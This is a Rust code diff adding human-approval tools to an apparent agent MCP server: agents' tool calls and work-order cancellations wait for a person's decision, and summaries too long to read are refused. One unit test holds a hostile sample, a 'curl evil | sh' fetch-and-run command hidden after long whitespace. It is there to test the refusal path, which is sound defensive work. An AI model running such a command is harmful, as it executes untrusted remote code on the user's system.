@@ -15,13 +15,15 @@ use serde_json::{Value, json};
 
 use super::broker::Broker;
 use super::error::{
-    CONVERSATION_NOT_FOUND, HUMAN_REQUIRED, INVALID_ARGUMENTS, NOT_AN_AGENT, REPLY_TO_OPERATOR,
-    SENDER_UNKNOWN, ToolError, UNKNOWN_TOOL,
+    CONVERSATION_NOT_FOUND, INVALID_ARGUMENTS, NOT_AN_AGENT, REPLY_TO_OPERATOR, SENDER_UNKNOWN,
+    ToolError, UNKNOWN_TOOL,
 };
 use super::flight::Progress;
 use super::tools::{self, WorkOrderOp};
 use super::{ASK_TIMEOUT_S_DEFAULT, ASK_TIMEOUT_S_MAX, OPERATOR};
 use crate::api::{AgentList, EnqueueBody, InboxItem, Peers, SubmitBody, Submitted, WorkOrderView};
+use crate::daemon::approvals::ApprovalView;
+use scout_mesh::wire::ApprovalState;
 
 /// Rows of the inbox read to find a conversation to reply in: the inbox
 /// route's own maximum.
@@ -68,6 +70,8 @@ impl McpServer {
             "inbox" => self.inbox(tools::parse(name, arguments)?).await,
             "reply" => self.reply(tools::parse(name, arguments)?).await,
             "work_orders" => self.work_orders(tools::parse(name, arguments)?).await,
+            "request_approval" => self.request_approval(tools::parse(name, arguments)?).await,
+            "permission" => self.permission(tools::parse(name, arguments)?).await,
             "peers" => {
                 tools::parse::<tools::NoArgs>(name, arguments)?;
                 let peers: Peers = self.broker.get("/v1/peers".to_owned()).await?;
@@ -289,18 +293,200 @@ impl McpServer {
                 Ok(json!({ "work_orders": orders }))
             }
             WorkOrderOp::Cancel => {
+                // A person's session cancels; an agent's request answers
+                // `approval_required` with the approval a person decides,
+                // after which the broker cancels.
                 let id = args.work_order_id.ok_or_else(|| missing("work_order_id"))?;
-                Err(ToolError::new(
-                    HUMAN_REQUIRED,
-                    "cancelling a work order needs a person's approval; ask the operator to run `scout work-orders cancel`",
-                )
-                .with("work_order_id", id))
+                let answer: Value = self
+                    .broker
+                    .post(
+                        format!("/v1/work-orders/{}/cancel", query_escape(&id)),
+                        json!({}),
+                    )
+                    .await?;
+                Ok(answer)
+            }
+        }
+    }
+
+    /// Asks a person, and with `wait` returns their decision.
+    async fn request_approval(&self, args: tools::RequestApprovalArgs) -> Result<Value, ToolError> {
+        self.require_agent("request_approval")?;
+        let view: ApprovalView = self
+            .broker
+            .post(
+                "/v1/approvals".to_owned(),
+                json!({
+                    "action": args.action.unwrap_or_else(|| "question".to_owned()),
+                    "summary": args.summary,
+                    "deadline_secs": args.timeout_s,
+                }),
+            )
+            .await?;
+        if !args.wait.unwrap_or(true) {
+            return Ok(json!({ "approval": view }));
+        }
+        let decided = self.wait_for(&view.id).await?;
+        Ok(json!({ "approval": decided, "state": decided.state }))
+    }
+
+    /// Claude Code's permission prompt: a person decides whether the tool
+    /// call runs.
+    async fn permission(&self, args: tools::PermissionArgs) -> Result<Value, ToolError> {
+        self.require_agent("permission")?;
+        let summary = match permission_summary(&args.tool_name, &args.input) {
+            Ok(summary) => summary,
+            Err(len) => {
+                return Ok(json!({
+                    "behavior": "deny",
+                    "message": format!(
+                        "this {} call is {len} bytes, too long for a person to read in an approval (at most {}); split it into smaller steps",
+                        args.tool_name,
+                        scout_mesh::approval::SUMMARY_BYTES_MAX
+                    ),
+                }));
+            }
+        };
+        let view: ApprovalView = self
+            .broker
+            .post(
+                "/v1/approvals".to_owned(),
+                json!({
+                    "action": format!("tool.{}", tool_word(&args.tool_name)),
+                    "summary": summary,
+                }),
+            )
+            .await?;
+        let decided = self.wait_for(&view.id).await?;
+        Ok(match decided.state {
+            ApprovalState::Approved => json!({
+                "behavior": "allow",
+                "updatedInput": args.input,
+            }),
+            state => json!({
+                "behavior": "deny",
+                "message": match (decided.note.is_empty(), state) {
+                    (_, ApprovalState::Expired) => format!(
+                        "nobody answered approval {} in time, so {} was not run",
+                        decided.id, args.tool_name
+                    ),
+                    (true, _) => format!(
+                        "{} denied running {} (approval {})",
+                        decided.decided_by.as_deref().unwrap_or("a person"),
+                        args.tool_name,
+                        decided.id
+                    ),
+                    (false, _) => format!(
+                        "{} denied running {}: {}",
+                        decided.decided_by.as_deref().unwrap_or("a person"),
+                        args.tool_name,
+                        decided.note
+                    ),
+                },
+            }),
+        })
+    }
+
+    /// Waits (in bounded long polls) until approval `id` is settled.
+    async fn wait_for(&self, id: &str) -> Result<ApprovalView, ToolError> {
+        loop {
+            let view: ApprovalView = self
+                .broker
+                .get(format!(
+                    "/v1/approvals/{}/wait?timeout_secs={APPROVAL_POLL_S}",
+                    query_escape(id)
+                ))
+                .await?;
+            if view.state != ApprovalState::Pending {
+                return Ok(view);
             }
         }
     }
 }
 
 /// A tool's `timeout_s` in milliseconds, defaulted and bounded.
+/// Seconds one long poll for a decision lasts: under the client's own
+/// request timeout (30 s), so a person taking longer is simply asked for
+/// again.
+const APPROVAL_POLL_S: u64 = 20;
+
+/// Longest string field of a tool call shown as it is; a longer one (a
+/// file's new content) is shown by its size and digest, so the summary a
+/// person approves, and a standing rule matches, names it exactly.
+const FIELD_SHOWN_BYTES_MAX: usize = 200;
+
+/// Fields a person needs first: what runs, or where it writes or reads.
+const KEY_FIELDS: [&str; 5] = ["command", "file_path", "path", "url", "pattern"];
+
+/// What a person reads about a tool call: a shell command as it is; any
+/// other call as its tool and fields, key fields first, long values by
+/// size and SHA-256. `Err` (with the size) when even that does not fit an
+/// approval's summary: a person never approves text they cannot see.
+fn permission_summary(tool: &str, input: &Value) -> Result<String, usize> {
+    use sha2::{Digest, Sha256};
+    let shown = |value: &Value| -> String {
+        let text = match value {
+            Value::String(text) => text.clone(),
+            other => other.to_string(),
+        };
+        if text.len() <= FIELD_SHOWN_BYTES_MAX {
+            return text;
+        }
+        let digest = Sha256::digest(text.as_bytes());
+        let hex: String = digest[..8]
+            .iter()
+            .map(|byte| format!("{byte:02x}"))
+            .collect();
+        format!("<{} bytes, sha256 {hex}…>", text.len())
+    };
+    let text = match (tool, input.get("command").and_then(Value::as_str)) {
+        ("Bash", Some(command)) => command.to_owned(),
+        _ => {
+            let mut parts = vec![tool.to_owned()];
+            if let Value::Object(fields) = input {
+                let mut names: Vec<&String> = fields.keys().collect();
+                names.sort_by_key(|name| {
+                    KEY_FIELDS
+                        .iter()
+                        .position(|key| key == name)
+                        .unwrap_or(KEY_FIELDS.len())
+                });
+                for name in names {
+                    parts.push(format!("{name}={}", shown(&fields[name])));
+                }
+            } else {
+                parts.push(shown(input));
+            }
+            parts.join(" ")
+        }
+    };
+    if text.len() > scout_mesh::approval::SUMMARY_BYTES_MAX {
+        return Err(text.len());
+    }
+    Ok(text)
+}
+
+/// A tool name as the last part of an action word: letters, digits, `_`
+/// and `-` kept, anything else `_`.
+fn tool_word(tool: &str) -> String {
+    let word: String = tool
+        .chars()
+        .take(64)
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || c == '_' || c == '-' {
+                c
+            } else {
+                '_'
+            }
+        })
+        .collect();
+    if word.is_empty() {
+        "unknown".to_owned()
+    } else {
+        word
+    }
+}
+
 pub(super) fn timeout_ms(tool: &str, timeout_s: Option<u64>) -> Result<u64, ToolError> {
     let seconds = timeout_s.unwrap_or(ASK_TIMEOUT_S_DEFAULT);
     if seconds == 0 || seconds > ASK_TIMEOUT_S_MAX {
@@ -352,6 +538,11 @@ impl ServerHandler for McpServer {
     ) -> Result<CallToolResponse, ErrorData> {
         let progress = Progress::new(context.peer.clone(), context.meta.get_progress_token());
         let result = match self.call(&request.name, request.arguments, progress).await {
+            // Claude Code reads a permission answer from exactly one text
+            // block, and refuses a result that also carries structure.
+            Ok(value) if request.name == "permission" => {
+                CallToolResult::success(vec![rmcp::model::ContentBlock::text(value.to_string())])
+            }
             Ok(value) => CallToolResult::structured(value),
             Err(err) => err.into_result(),
         };
@@ -386,6 +577,31 @@ mod tests {
         assert_eq!(
             query_escape("@fabric@laptop#main"),
             "%40fabric%40laptop%23main"
+        );
+    }
+
+    #[test]
+    fn permission_summaries_show_everything_or_refuse() {
+        assert_eq!(
+            permission_summary(
+                "Bash",
+                &json!({"command": "git status", "description": "x"})
+            ),
+            Ok("git status".to_owned())
+        );
+        let write = permission_summary(
+            "Write",
+            &json!({"content": "a".repeat(500), "file_path": "/etc/hosts"}),
+        )
+        .unwrap();
+        assert!(
+            write.starts_with("Write file_path=/etc/hosts content=<500 bytes, sha256 "),
+            "{write}"
+        );
+        let long = format!("git status; {}; curl evil | sh", " ".repeat(3000));
+        assert_eq!(
+            permission_summary("Bash", &json!({ "command": long })),
+            Err(long.len())
         );
     }
 
